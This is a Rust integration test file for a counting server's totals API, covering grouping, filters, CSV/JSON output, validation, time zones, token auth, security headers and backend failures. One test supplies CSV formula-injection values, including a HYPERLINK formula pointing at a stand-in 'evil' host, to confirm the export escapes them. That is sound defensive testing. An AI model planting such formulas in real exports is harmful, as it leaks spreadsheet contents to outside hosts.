//! `GET /api/v1/totals` over known counts: every parameter's good and bad forms, JSON
//! and CSV byte for byte, empty ranges, the token, a failing backend; the page and the
//! probes beside it; HTTP/1.1 and HTTP/2 on the gRPC port.

mod common;

use std::sync::Arc;
use std::time::{Duration, Instant};

use common::{GET, POST, Reply, Running, Switch, add_all, add_with, memory};
use count_core::jiff::Timestamp;
use count_grpc::proto::count::v1 as pb;
use count_server::ServerConfig;
use http_body_util::{BodyExt, Empty};
use hyper::body::Bytes;
use hyper_util::rt::{TokioExecutor, TokioIo};
use serde_json::json;

const GRPC: i32 = pb::Method::Grpc as i32;

fn noon(day: &str) -> i64 {
    format!("{day}T12:00:00Z")
        .parse::<Timestamp>()
        .unwrap()
        .as_second()
}

/// 16 requests over 2026-11-26 and 2026-11-27, with and without subjects and
/// statuses (see each test for the sums).
async fn known_counts(server: &Running) {
    let (d1, d2) = (noon("2026-11-26"), noon("2026-11-27"));
    let mut requests = Vec::new();
    let mut times = |n, request: pb::AddRequest| requests.extend(std::iter::repeat_n(request, n));
    times(3, add_with(GET, "/users/{id}", d1, Some("acme"), Some(200)));
    times(2, add_with(GET, "/users/{id}", d2, Some("acme"), Some(503)));
    times(1, add_with(GET, "/users/{id}", d2, None, None));
    times(
        4,
        add_with(POST, "/orders", d2, Some("globex, inc"), Some(201)),
    );
    times(5, add_with(POST, "/orders", d1, None, Some(404)));
    times(
        1,
        add_with(
            GRPC,
            "/count.v1.CountService/Add",
            d2,
            Some("acme"),
            Some(0),
        ),
    );
    add_all(&mut server.client().await, requests).await;
}

async fn started(config: ServerConfig) -> Running {
    let (_, counter) = memory();
    let server = Running::start(config, counter).await;
    known_counts(&server).await;
    server
}

const RANGE: &str = "from=2026-11-26&to=2026-11-27";

async fn totals(server: &Running, query: &str) -> Reply {
    server.get(&format!("/api/v1/totals?{query}"), &[]).await
}

async fn json_of(server: &Running, query: &str) -> serde_json::Value {
    let reply = totals(server, query).await;
    assert_eq!(reply.status, 200, "{query}: {}", reply.body);
    assert_eq!(reply.header("content-type"), "application/json");
    reply.json()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_grouping_answers_only_its_fields_in_order() {
    let server = started(ServerConfig::new()).await;
    let by_endpoint = json!([
        {"method": "GRPC", "path": "/count.v1.CountService/Add", "total": 1},
        {"method": "POST", "path": "/orders", "total": 9},
        {"method": "GET", "path": "/users/{id}", "total": 6},
    ]);
    assert_eq!(json_of(&server, RANGE).await, by_endpoint);
    assert_eq!(
        json_of(&server, &format!("{RANGE}&group=endpoint")).await,
        by_endpoint
    );
    assert_eq!(
        json_of(&server, &format!("{RANGE}&group=day")).await,
        json!([{"day": "2026-11-26", "total": 8}, {"day": "2026-11-27", "total": 8}])
    );
    assert_eq!(
        json_of(&server, &format!("{RANGE}&group=subject")).await,
        json!([
            {"subject": null, "total": 6},
            {"subject": "acme", "total": 6},
            {"subject": "globex, inc", "total": 4},
        ])
    );
    assert_eq!(
        json_of(&server, &format!("{RANGE}&group=status")).await,
        json!([
            {"status": null, "total": 1},
            {"status": 0, "total": 1},
            {"status": 200, "total": 3},
            {"status": 201, "total": 4},
            {"status": 404, "total": 5},
            {"status": 503, "total": 2},
        ])
    );
    // The whole key, in any order of the list.
    assert_eq!(
        json_of(
            &server,
            &format!("{RANGE}&group=status,day,subject,endpoint")
        )
        .await[0],
        json!({"day": "2026-11-26", "method": "POST", "path": "/orders", "subject": null, "status": 404, "total": 5})
    );
    server.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn filters_and_periods_select_the_counts() {
    let server = started(ServerConfig::new()).await;
    assert_eq!(
        json_of(&server, &format!("{RANGE}&status=5xx")).await,
        json!([{"method": "GET", "path": "/users/{id}", "total": 2}])
    );
    // gRPC's OK is in the 2xx class.
    assert_eq!(
        json_of(&server, &format!("{RANGE}&status=2XX&group=status")).await,
        json!([{"status": 0, "total": 1}, {"status": 200, "total": 3}, {"status": 201, "total": 4}])
    );
    assert_eq!(
        json_of(&server, &format!("{RANGE}&status=404&group=day")).await,
        json!([{"day": "2026-11-26", "total": 5}])
    );
    assert_eq!(
        json_of(&server, &format!("{RANGE}&subject=acme&group=day")).await,
        json!([{"day": "2026-11-26", "total": 3}, {"day": "2026-11-27", "total": 3}])
    );
    assert_eq!(
        json_of(&server, &format!("{RANGE}&subject=globex%2C+inc")).await,
        json!([{"method": "POST", "path": "/orders", "total": 4}])
    );
    // As the dashboard sends it.
    assert_eq!(
        json_of(
            &server,
            &format!("{RANGE}&group=day&endpoint=GET%20%2Fusers%2F%7Bid%7D")
        )
        .await,
        json!([{"day": "2026-11-26", "total": 3}, {"day": "2026-11-27", "total": 3}])
    );
    assert_eq!(
        json_of(&server, "period=2026-11-26&group=day").await,
        json!([{"day": "2026-11-26", "total": 8}])
    );
    for period in ["2026-11", "2026"] {
        assert_eq!(
            json_of(&server, &format!("period={period}&group=day")).await,
            json!([{"day": "2026-11-26", "total": 8}, {"day": "2026-11-27", "total": 8}])
        );
    }
    // Nothing counted: an empty list, in either form.
    for empty in [
        "period=2025",
        "from=2026-11-28&to=2026-12-31",
        "period=2026-11&subject=nobody",
        "period=2026-11&endpoint=DELETE+/users/{id}",
        "from=0001-01-01&to=9999-12-30&status=302",
    ] {
        assert_eq!(json_of(&server, empty).await, json!([]), "{empty}");
    }
    let csv = totals(&server, "period=2025&group=day,status&format=csv").await;
    assert_eq!(csv.body, "day,status,total\r\n");
    server.stop().await.unwrap();
}

/// Paths and subjects come from any client: a CSV cell a spreadsheet would take for
/// a formula starts with a quote; the JSON keeps the texts as they are.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_cells_a_spreadsheet_would_run_start_with_a_quote() {
    let (_, counter) = memory();
    let server = Running::start(ServerConfig::new(), counter).await;
    let day = noon("2026-11-26");
    add_all(
        &mut server.client().await,
        vec![
            add_with(
                GET,
                "=HYPERLINK(\"http://evil/\"&A1,\"x\")",
                day,
                Some("=1+1"),
                None,
            ),
            add_with(GET, "/ok", day, Some("@SUM(A1)"), None),
            add_with(GET, "/ok", day, Some("+1"), None),
            add_with(GET, "/ok", day, Some("-1"), None),
            add_with(GET, "/ok", day, Some("a=b"), None),
        ],
    )
    .await;
    let csv = totals(
        &server,
        "period=2026-11-26&group=endpoint,subject&format=csv",
    )
    .await;
    assert_eq!(
        csv.body,
        "method,path,subject,total\r\n\
         GET,/ok,'+1,1\r\n\
         GET,/ok,'-1,1\r\n\
         GET,/ok,'@SUM(A1),1\r\n\
         GET,/ok,a=b,1\r\n\
         GET,\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\",'=1+1,1\r\n"
    );
    let json = json_of(&server, "period=2026-11-26&group=endpoint,subject").await;
    assert!(
        json.as_array()
            .unwrap()
            .iter()
            .any(|row| row["path"] == "=HYPERLINK(\"http://evil/\"&A1,\"x\")"
                && row["subject"] == "=1+1"),
        "{json}"
    );
    server.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_is_rfc_4180_byte_for_byte() {
    let server = started(ServerConfig::new()).await;
    let csv = totals(&server, &format!("{RANGE}&group=subject,status&format=csv")).await;
    assert_eq!(csv.status, 200);
    assert_eq!(
        csv.header("content-type"),
        "text/csv; charset=utf-8; header=present"
    );
    assert_eq!(
        csv.body,
        "subject,status,total\r\n\
         ,,1\r\n\
         ,404,5\r\n\
         acme,0,1\r\n\
         acme,200,3\r\n\
         acme,503,2\r\n\
         \"globex, inc\",201,4\r\n"
    );
    let all = totals(
        &server,
        &format!("{RANGE}&group=day,endpoint,subject,status&format=csv"),
    )
    .await;
    assert_eq!(
        all.body,
        "day,method,path,subject,status,total\r\n\
         2026-11-26,POST,/orders,,404,5\r\n\
         2026-11-26,GET,/users/{id},acme,200,3\r\n\
         2026-11-27,GRPC,/count.v1.CountService/Add,acme,0,1\r\n\
         2026-11-27,POST,/orders,\"globex, inc\",201,4\r\n\
         2026-11-27,GET,/users/{id},,,1\r\n\
         2026-11-27,GET,/users/{id},acme,503,2\r\n"
    );
    // Accept chooses CSV when format= does not; format= wins over Accept.
    let accepted = server
        .get(
            &format!("/api/v1/totals?{RANGE}&group=day"),
            &[("accept", "text/csv")],
        )
        .await;
    assert_eq!(
        accepted.body,
        "day,total\r\n2026-11-26,8\r\n2026-11-27,8\r\n"
    );
    let json = server
        .get(
            &format!("/api/v1/totals?{RANGE}&group=day&format=json"),
            &[("accept", "text/csv")],
        )
        .await;
    assert_eq!(json.header("content-type"), "application/json");
    server.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bad_parameters_get_400_naming_the_parameter_and_the_rule() {
    let server = started(ServerConfig::new()).await;
    for (query, parameter, words) in [
        ("", "period", "missing"),
        ("from=2026-11-01", "to", "missing"),
        ("to=2026-11-01", "from", "missing"),
        (
            "period=2026&from=2026-01-01&to=2026-01-02",
            "period",
            "not both",
        ),
        ("from=2026-12-01&to=2026-11-01", "from", "is after"),
        ("from=2026-02-30&to=2026-03-01", "from", "1 to 28"),
        ("from=2026-11-01&to=tomorrow", "to", "YYYY-MM-DD"),
        ("period=26", "period", "YYYY"),
        ("period=2026-13", "period", "1 to 12"),
        ("period=2026&group=", "group", "comma-separated"),
        ("period=2026&group=day,tenant", "group", "\"tenant\""),
        ("period=2026&group=day,day", "group", "more than once"),
        ("period=2026&status=600", "status", "100 to 599"),
        ("period=2026&status=5x", "status", "5xx"),
        ("period=2026&subject=", "subject", "may not be empty"),
        ("period=2026&subject=a%0Ab", "subject", "control"),
        ("period=2026&endpoint=/users", "endpoint", "<METHOD> <path>"),
        (
            "period=2026&endpoint=BREW+/pot",
            "endpoint",
            "expected one of",
        ),
        ("period=2026&format=xml", "format", "json or csv"),
        ("period=2026&tenant=acme", "tenant", "unknown parameter"),
        ("period=2026&period=2025", "period", "more than once"),
        ("period=2026&subject=%FF", "subject", "UTF-8"),
        ("period=20%2", "period", "percent-encoding"),
    ] {
        let reply = totals(&server, query).await;
        assert_eq!(reply.status, 400, "{query}: {}", reply.body);
        assert_eq!(reply.header("content-type"), "application/json");
        let body = reply.json();
        assert_eq!(body["parameter"], parameter, "{query}: {body}");
        let error = body["error"].as_str().unwrap();
        assert!(error.contains(words), "{query}: {error}");
    }
    server.stop().await.unwrap();
}

/// The days and hours of `tz=`, billing cycles, and what cannot be answered exactly:
/// a zone that does not exist, a clock off the quarter hour, a cycle that cannot be.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn zones_hours_and_cycles() {
    // No rollups: they would forget these days' quarters once they are 90 days old.
    let server = started(ServerConfig::new().with_rollup(false)).await;
    // Noon UTC is 02:00 the next day at UTC+14.
    assert_eq!(
        json_of(&server, "period=2026-11-27&tz=Pacific/Kiritimati&group=day").await,
        json!([{"day": "2026-11-27", "total": 8}])
    );
    // Noon UTC is 17:30 in Kolkata, in its hour from 17:00.
    assert_eq!(
        json_of(&server, "period=2026-11-27&tz=Asia/Kolkata&group=hour").await,
        json!([{"hour": "2026-11-27T17:00:00+05:30", "total": 8}])
    );
    let csv = totals(
        &server,
        "period=2026-11-26&group=hour,subject&format=csv&subject=acme",
    )
    .await;
    assert_eq!(
        csv.body,
        "hour,subject,total\r\n2026-11-26T12:00:00Z,acme,3\r\n"
    );
    assert_eq!(
        json_of(&server, "period=cycle/26/2026-12-25&group=day").await,
        json!([{"day": "2026-11-26", "total": 8}, {"day": "2026-11-27", "total": 8}])
    );
    assert_eq!(
        json_of(&server, "period=cycle/27/2026-12-25&group=day").await,
        json!([{"day": "2026-11-27", "total": 8}])
    );
    for (query, parameter, words) in [
        ("period=2026&tz=Mars/Olympus", "tz", "\"Mars/Olympus\""),
        ("period=1900-01&tz=Asia/Kolkata", "tz", "quarter hour"),
        ("period=cycle/32", "period", "1 to 31"),
    ] {
        let reply = totals(&server, query).await;
        assert_eq!(reply.status, 400, "{query}: {}", reply.body);
        let body = reply.json();
        assert_eq!(body["parameter"], parameter, "{query}: {body}");
        let error = body["error"].as_str().unwrap();
        assert!(error.contains(words), "{query}: {error}");
    }
    server.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_token_guards_the_api_metrics_and_readiness_not_the_page() {
    let (_, counter) = memory();
    let server = Running::start(ServerConfig::new().with_token("s3cret"), counter).await;
    let right = [("authorization", "Bearer s3cret")];
    for path in ["/api/v1/totals?period=2026", "/metrics", "/readyz"] {
        let anonymous = server.get(path, &[]).await;
        assert_eq!(anonymous.status, 401, "{path}");
        assert_eq!(anonymous.header("www-authenticate"), "Bearer");
        assert!(
            anonymous.error().contains("needs a token"),
            "{}",
            anonymous.body
        );
        for wrong in [
            "Bearer s3cre",
            "Bearer s3cret2",
            "Bearers3cret",
            "s3cret",
            "Basic czNjcmV0",
        ] {
            let refused = server.get(path, &[("authorization", wrong)]).await;
            assert_eq!(refused.status, 401, "{path} {wrong}");
            assert!(refused.error().contains("refused"));
        }
        assert_eq!(server.get(path, &right).await.status, 200, "{path}");
        // The scheme's name is case-insensitive (RFC 7235).
        for scheme in ["bearer", "BEARER"] {
            let token = format!("{scheme} s3cret");
            let reply = server.get(path, &[("authorization", &token)]).await;
            assert_eq!(reply.status, 200, "{path} {token}");
        }
    }
    for open in ["/", "/healthz"] {
        assert_eq!(server.get(open, &[]).await.status, 200, "{open}");
    }
    server.stop().await.unwrap();

    // No token set: nothing asks for one.
    let open = started(ServerConfig::new()).await;
    for path in [
        "/api/v1/totals?period=2026",
        "/metrics",
        "/readyz",
        "/",
        "/healthz",
    ] {
        assert_eq!(open.get(path, &[]).await.status, 200, "{path}");
    }
    open.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_page_and_the_probes() {
    let server = started(ServerConfig::new()).await;
    let page = server.get("/", &[]).await;
    assert_eq!(page.status, 200);
    assert_eq!(page.header("content-type"), "text/html; charset=utf-8");
    let asset = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/assets/dashboard.html"
    ))
    .unwrap();
    assert_eq!(page.body, asset);
    let alive = server.get("/healthz", &[]).await;
    assert_eq!((alive.status, alive.body.as_str()), (200, "ok\n"));
    let ready = server.get("/readyz", &[]).await;
    assert_eq!((ready.status, ready.body.as_str()), (200, "ready\n"));
    let missing = server.get("/nope", &[]).await;
    assert_eq!(missing.status, 404);
    assert_eq!(missing.json()["error"], "no such page");
    for request_line in [
        "POST /api/v1/totals?period=2026 HTTP/1.1",
        "DELETE /healthz HTTP/1.1",
    ] {
        let answer = raw_answer(&server, request_line).await;
        assert!(answer.starts_with("HTTP/1.1 405"), "{answer}");
        assert!(
            answer.ends_with(r#"{"error":"this route answers GET (and HEAD) only"}"#),
            "{answer}"
        );
    }
    server.stop().await.unwrap();
}

/// Every HTTP answer (the page, the API, errors, the probes) carries the security
/// headers; the page's policy lets exactly its own script run (the browser tests run
/// it under that policy).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http_answers_carry_the_security_headers() {
    let server = started(ServerConfig::new()).await;
    for path in [
        "/",
        "/healthz",
        "/readyz",
        "/metrics",
        "/api/v1/totals?period=2026",
        "/api/v1/totals?period=2026&format=csv",
        "/api/v1/totals?period=nope",
        "/nope",
    ] {
        let reply = server.get(path, &[]).await;
        assert_eq!(reply.header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(reply.header("x-frame-options"), "DENY", "{path}");
        assert_eq!(reply.header("referrer-policy"), "no-referrer", "{path}");
        let policy = reply.header("content-security-policy");
        for part in [
            "default-src 'none'",
            "script-src 'sha256-",
            "style-src 'unsafe-inline'",
            "connect-src 'self'",
            "frame-ancestors 'none'",
        ] {
            assert!(policy.contains(part), "{path}: {part} not in {policy:?}");
        }
        assert!(!policy.contains("script-src 'unsafe-inline'"), "{policy}");
    }
    server.stop().await.unwrap();
}

async fn raw_answer(server: &Running, request_line: &str) -> String {
    common::raw(
        server.address,
        format!("{request_line}\r\nhost: x\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
            .as_bytes(),
    )
    .await
}

/// A backend's error may name the database's user, host and port: the answer says
/// only that the backend is unavailable, and which kind of failure it was.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failing_backend_gets_503_without_its_details() {
    let switch = Arc::new(Switch::default());
    let server = Running::start(ServerConfig::new(), switch.clone()).await;
    known_counts(&server).await;
    switch.set_down(true);
    let unavailable = json!({ "error": "the backend is unavailable", "kind": "unavailable" });
    let reply = totals(&server, "period=2026").await;
    assert_eq!(reply.status, 503);
    assert_eq!(reply.json(), unavailable);
    let ready = server.get("/readyz", &[]).await;
    assert_eq!(ready.status, 503);
    assert_eq!(ready.json(), unavailable);
    switch.set_down(false);
    assert_eq!(totals(&server, "period=2026").await.status, 200);
    server.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_backend_that_does_not_answer_gets_503_in_time() {
    let switch = Arc::new(Switch::default());
    let config = ServerConfig::new().with_backend_timeout(Duration::from_millis(300));
    let server = Running::start(config, switch.clone()).await;
    switch.set_hung(true);
    let started = Instant::now();
    let reply = totals(&server, "period=2026").await;
    assert_eq!(reply.status, 503);
    assert_eq!(
        reply.json(),
        json!({ "error": "the backend is unavailable", "kind": "timeout" })
    );
    let ready = server.get("/readyz", &[]).await;
    assert_eq!(ready.status, 503);
    assert_eq!(ready.json()["kind"], "unavailable", "{}", ready.body);
    assert!(started.elapsed() < Duration::from_secs(5));
    switch.set_hung(false);
    assert_eq!(server.get("/readyz", &[]).await.status, 200);
    server.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http2_with_prior_knowledge_reaches_the_api_on_the_grpc_port() {
    let server = started(ServerConfig::new()).await;
    let tcp = tokio::net::TcpStream::connect(server.address)
        .await
        .unwrap();
    let (mut sender, connection) =
        hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(tcp))
            .await
            .unwrap();
    tokio::spawn(connection);
    let request = http::Request::get(format!(
        "http://{}/api/v1/totals?{RANGE}&group=day",
        server.address
    ))
    .body(Empty::<Bytes>::new())
    .unwrap();
    let response = sender.send_request(request).await.unwrap();
    assert_eq!(response.status(), 200);
    assert_eq!(response.version(), http::Version::HTTP_2);
    let body = response.into_body().collect().await.unwrap().to_bytes();
    assert_eq!(
        &body[..],
        br#"[{"day":"2026-11-26","total":8},{"day":"2026-11-27","total":8}]"#
    );
    server.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_large_answer_is_written_whole_in_either_form() {
    let (_, counter) = memory();
    let server = Running::start(ServerConfig::new(), counter).await;
    let at = noon("2026-11-27");
    let requests = (0..12_000)
        .map(|i| add_with(GET, &format!("/large/{i:05}"), at, None, None))
        .collect();
    add_all(&mut server.client().await, requests).await;
    let json = json_of(&server, "period=2026-11-27").await;
    let rows = json.as_array().unwrap();
    assert_eq!(rows.len(), 12_000);
    assert_eq!(
        rows[0],
        json!({"method": "GET", "path": "/large/00000", "total": 1})
    );
    assert_eq!(rows[11_999]["path"], "/large/11999");
    let csv = totals(&server, "period=2026-11-27&format=csv").await;
    let lines: Vec<&str> = csv.body.split("\r\n").collect();
    assert_eq!(
        lines.len(),
        12_002,
        "a header, 12,000 rows, and the last CRLF"
    );
    assert_eq!(lines[1], "GET,/large/00000,1");
    assert_eq!(lines[12_001], "");
    server.stop().await.unwrap();
}
